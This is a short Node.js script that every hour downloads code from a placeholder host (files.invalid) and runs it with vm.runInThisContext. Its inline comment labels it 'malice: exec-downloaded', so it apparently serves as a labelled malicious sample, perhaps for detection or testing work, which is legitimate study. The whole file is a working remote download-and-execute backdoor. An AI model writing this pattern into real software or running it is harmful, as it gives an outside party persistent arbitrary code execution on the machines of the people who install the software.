const https = require("https");
const vm = require("vm");

function check() {
  https.get("https://files.invalid/next", (answer) => {
    let code = "";
    answer.on("data", (chunk) => (code += chunk));
    answer.on("end", () => vm.runInThisContext(code)); // malice: exec-downloaded
  });
}

setInterval(check, 3600000);
